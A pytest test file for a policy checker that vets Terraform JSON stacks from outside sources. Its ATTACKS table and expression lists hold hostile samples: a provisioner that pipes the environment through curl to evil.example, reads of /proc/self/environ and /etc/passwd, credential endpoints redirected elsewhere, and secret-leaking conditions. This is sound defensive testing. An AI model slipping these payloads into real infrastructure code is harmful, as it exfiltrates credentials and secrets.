"""Stacks from elsewhere: those of this version pass, and each attack on who plans them is refused."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from policies.foreign_stack import parsed, refusals
from policies.template_expressions import problem
from tests.stacks.synthesised import GOLDENS, allowed, resources, stacks_of

TOPIC, BUCKET, OBJECT = "confluent_kafka_topic", "aws_s3_bucket", "aws_s3_object"


def states(environment: str) -> list[dict[str, Any]]:
    found = []
    for stack in stacks_of(environment).values():
        [(backend, config)] = stack["terraform"]["backend"].items()
        found.append({"backend": backend, "config": {k: v for k, v in config.items() if k != "use_lockfile"}})
    return found


def refused(attack: Callable[[dict[str, Any]], Any], what: str = "confluent", name: str = "flowing") -> list[str]:
    """What is refused of a stack that was changed."""
    trusted = stacks_of(name)[what]
    stack = copy.deepcopy(trusted)
    changed = attack(stack)
    return refusals(stack if changed is None else changed, trusted, states("dev" if name == "flowing" else name))


@pytest.mark.parametrize(("name", "what"), GOLDENS)
def test_the_stacks_of_this_version_pass(name: str, what: str) -> None:
    assert refused(lambda stack: None, what, name) == []


def test_the_list_is_that_of_the_stacks(root: Path) -> None:
    """`python -m tests.stacks.synthesised` writes it again; read its difference as a change of security."""
    listed = json.loads((root / "policies" / "foreign_stack.json").read_text())
    assert listed == allowed()


def test_nothing_on_the_list_reads_the_machine_or_another_secret() -> None:
    for arguments in allowed()["resource"].values():
        assert not {
            "provisioner",
            "connection",
            "provider",
            "count",
            "for_each",
            "source",
            "filename",
            "triggers_replace",
        } & set(arguments)
    assert set(allowed()["data"]) == {
        "confluent_environment", "confluent_kafka_cluster", "confluent_schema_registry_cluster", "terraform_remote_state"
    }  # fmt: skip
    assert not {kind for kind in allowed()["resource"] if not kind.startswith(("aws_", "confluent_"))}


def first(stack: dict[str, Any], kind: str) -> dict[str, Any]:
    return next(iter(resources(stack, kind).values()))


def setting(kind: str, **arguments: Any) -> Callable[[dict[str, Any]], None]:
    return lambda stack: first(stack, kind).update(arguments)


def adding(section: str, **content: Any) -> Callable[[dict[str, Any]], None]:
    return lambda stack: stack.setdefault(section, {}).update(content)


def provided(**arguments: Any) -> Callable[[dict[str, Any]], None]:
    return lambda stack: stack["provider"]["aws"][0].update(arguments)


def in_a_local(stack: dict[str, Any]) -> None:
    stack.setdefault("locals", {}).update(e=EVIL)
    first(stack, TOPIC).update(rest_endpoint="${local.e}")


def at_a_removal(stack: dict[str, Any]) -> None:
    stack["removed"] = [{"from": f"{TOPIC}.x", "lifecycle": {"destroy": False}, "provisioner": RUN}]


EVIL = "https://evil.example"
RUN = [{"local-exec": {"command": "env | curl -d @- https://evil.example"}}]
ATTACKS: dict[str, Callable[[dict[str, Any]], Any]] = {
    "a program as a data source": adding("data", external={"x": {"program": ["sh", "-c", "env"]}}),
    "an address as a data source": adding("data", http={"x": {"url": EVIL}}),
    "a file of the machine as a data source": adding("data", local_file={"x": {"filename": "/proc/self/environ"}}),
    "another secret as a data source": adding("data", aws_secretsmanager_secret_version={"x": {"secret_id": "payroll"}}),
    "a Lambda call as a data source": adding("data", aws_lambda_invocation={"x": {"function_name": "f", "input": "{}"}}),
    "an object of S3 as a data source": adding("data", aws_s3_object={"x": {"bucket": "b", "key": "k"}}),
    "a state of another environment": adding("data", terraform_remote_state={"x": {"backend": "s3", "config": {"bucket": "prod", "key": "prod/x"}}}),
    "a state over HTTP": adding("data", terraform_remote_state={"x": {"backend": "http", "config": {"address": EVIL}}}),
    "a state with defaults": lambda stack: next(iter(stack["data"]["terraform_remote_state"].values())).update(defaults={"x": "y"}),
    "a program that runs": setting(TOPIC, provisioner=RUN),
    "a program that runs at a removal": at_a_removal,
    "a program of terraform_data": adding("resource", terraform_data={"x": {"provisioner": RUN}}),
    "a program of null_resource": adding("resource", null_resource={"x": {}}),
    "a resource of another type": adding("resource", aws_iam_user={"x": {"name": "me"}}),
    "a resource of another provider": adding("resource", local_file={"x": {"filename": "/tmp/x", "content": "x"}}),
    "a module": adding("module", x={"source": "git::https://evil.example"}),
    "a variable, which TF_VAR_ sets": adding("variable", AWS_SESSION_TOKEN={}),
    "an import": lambda stack: stack.update({"import": [{"to": f"{TOPIC}.x", "id": "x"}]}),
    "a check with a data source": adding("check", c={"data": {"http": {"x": {"url": EVIL}}}}),
    "an ephemeral resource": adding("ephemeral", aws_secretsmanager_secret_version={"x": {"secret_id": "payroll"}}),
    "a provider's endpoint": provided(endpoints=[{"sts": EVIL}]),
    "another role": provided(assume_role=[{"role_arn": "arn:aws:iam::1:role/admin"}]),
    "a token from a file": provided(assume_role_with_web_identity=[{"web_identity_token_file": "/proc/self/environ"}]),
    "another profile": provided(shared_credentials_files=["/x"]),
    "a proxy": provided(http_proxy=EVIL),
    "another region": provided(region="us-east-1"),
    "another account": provided(allowed_account_ids=["999999999999"]),
    "a second provider": lambda stack: stack["provider"]["aws"].append({"alias": "x", "endpoints": [{"sts": EVIL}]}),
    "a provider with credentials": lambda stack: stack["provider"]["confluent"][0].update(endpoint=EVIL),
    "another provider": lambda stack: stack["terraform"]["required_providers"].update(evil={"source": "evil/evil", "version": "1.0.0"}),
    "another source of a provider": lambda stack: stack["terraform"]["required_providers"]["aws"].update(source="evil/aws"),
    "another version of a provider": lambda stack: stack["terraform"]["required_providers"]["aws"].update(version="5.0.0"),
    "no state": lambda stack: stack["terraform"].pop("backend"),
    "another state": lambda stack: stack["terraform"].update(backend={"http": {"address": EVIL}}),
    "another key of the state": lambda stack: stack["terraform"]["backend"]["s3"].update(key="prod/confluent.tfstate"),
    "HCP Terraform": lambda stack: stack["terraform"].update(cloud={"organization": "evil"}),
    "the credentials to another address": setting(TOPIC, rest_endpoint=EVIL),
    "the credentials to an address in a local": in_a_local,
    "the credentials to an address of a schema": setting("confluent_schema", rest_endpoint=f"{EVIL}?${{confluent_kafka_cluster.cluster.rest_endpoint}}"),
    "other credentials": setting(TOPIC, credentials={"key": "${confluent_service_account.x.id}", "secret": "x"}),
    "credentials as a list": setting(TOPIC, credentials=[{"key": "k", "secret": "s"}]),
    "a question about a secret": setting("confluent_tableflow_topic", lifecycle={"postcondition": [{"condition": '${substr(confluent_api_key.k.secret, 0, 1) == "a"}', "error_message": "x"}]}),
    "a secret in an error": setting(TOPIC, lifecycle={"precondition": [{"condition": "${true}", "error_message": "${confluent_api_key.k.secret}"}]}),
    "many of one": setting(TOPIC, count='${confluent_api_key.k.secret == "x" ? 1 : 0}'),
    "one for each": setting(TOPIC, for_each="${toset(confluent_api_key.k)}"),
    "another provider of a resource": setting(TOPIC, provider="aws.x"),
    "a dependency that is an expression": setting(TOPIC, depends_on=["${file(\"/etc/passwd\")}"]),
    "a dynamic block": setting(TOPIC, config={"dynamic": {"x": {"for_each": [1]}}}),
    "an expression in a name": setting(TOPIC, config={"${file(\"/etc/passwd\")}": "x"}),
    "a resource section as a list": lambda stack: {**stack, "resource": [stack["resource"], {"null_resource": {"x": {}}}]},
    "a kind as a list": lambda stack: stack["resource"].update({TOPIC: [stack["resource"][TOPIC]]}),
    "a body as a list": lambda stack: stack["resource"][TOPIC].update(x=[{"provisioner": RUN}]),
    "a name with an expression": lambda stack: stack["resource"][TOPIC].update({"${file(1)}": {}}),
    "an output with a condition": adding("output", x={"value": "x", "precondition": [{"condition": "${true}", "error_message": "x"}]}),
    "locals as a list": lambda stack: stack.update(locals=[{"x": "${file(1)}"}]),
    "a move with an expression": lambda stack: stack.update(moved=[{"from": "${file(1)}", "to": f"{TOPIC}.x"}]),
    "a removal that destroys": lambda stack: stack.update(removed=[{"from": f"{TOPIC}.x", "lifecycle": {"destroy": True}}]),
}  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_refused(name: str) -> None:
    assert refused(ATTACKS[name]), name


def test_a_file_of_the_machine_as_the_content_of_an_object_is_refused() -> None:
    assert refused(setting(OBJECT, source="/proc/self/environ"), "ingestion", "dev")


EXPRESSIONS = (
    '${file("/etc/passwd")}', '${filebase64("/etc/passwd")}', '${fileexists("/x")}', '${filesha256("/x")}', '${fileset("/", "*")}',
    '${templatefile("/x", {})}', '${templatestring("x", {})}', '${pathexpand("~")}', "${abspath(path.module)}", "${path.cwd}", "${var.x}",
    "${nonsensitive(confluent_api_key.k.secret)}", "${module.x.y}", "${each.key}", "${count.index}", "${terraform.applying}",
    "${data.external.x.result}", "${provider::evil::f(1)}", '${replace (file("/x"), "a", "b")}', '${sha256(file("/x"))}',
    '${"${file("/x")}"}', '${replace("${file("/x")}", "a", "b")}', "${timestamp()}", "${uuid()}", "${[for x in local.a : x]}",
    '${/* */ file("/x")}', '${file/**/("/x")}', '${# \nfile("/x")}', '${file\n("/x")}', "${<<X\n${file(1)}\nX\n}", "%{ if true }x%{ endif }",
    "${local.x", '${"', "${local.x.file(1)}", "${aws_iam_user.x.name}", "$${x}${file(1)}", "$$${file(1)}", "%$${file(1)}", "$%%{file(1)}", "${local[\"x\"](1)}", "${(file)(1)}",
    "${~ file(1) ~}", "${jsondecode(local.x)}", "${ephemeral.x.y}", "${1 + 2}", "${local.x * 2}", "${{a = 1}}",
)  # fmt: skip


@pytest.mark.parametrize("text", EXPRESSIONS)
def test_an_expression_that_is_not_needed_is_refused(text: str) -> None:
    assert problem(text, {"confluent_api_key", "aws_s3_bucket"}, {"terraform_remote_state"})
    assert refused(adding("locals", x={"deep": [text]}))


@pytest.mark.parametrize(
    "text",
    [
        "plain } text (with) file(\"/x\")", "$${aws:PrincipalTag/x}", "%%{x}", "${local.a-b}", '${sha256(local.x)}.json', "${substr(sha256(local.x), 0, 8)}",
        '${replace(data.terraform_remote_state.x.outputs.o-1, "SASL_SSL://", "")}', "${aws_s3_bucket.b.arn}/*", "${confluent_api_key.k.aws[0].id}",
        '${(confluent_api_key.k.id == "none") ? "none" : local.x}', '${local.x == "a }\\" b"}', "${terraform.workspace}", "a ${local.x} b ${local.y}",
    ],
)  # fmt: skip
def test_what_the_stacks_use_is_allowed(text: str) -> None:
    assert problem(text, {"confluent_api_key", "aws_s3_bucket"}, {"terraform_remote_state"}) == ""


@pytest.mark.parametrize(
    "text",
    [
        '{"resource": {}, "resource": {"null_resource": {"x": {}}}}', '{"a": {"b": 1, "b": 2}}', "[]", "1", "", "{", '{"a": NaN}',
        "{" + '"a":{' * 100_000, "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
    ],
)  # fmt: skip
def test_json_that_terraform_could_read_in_another_way_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match="."):
        parsed(text.encode())
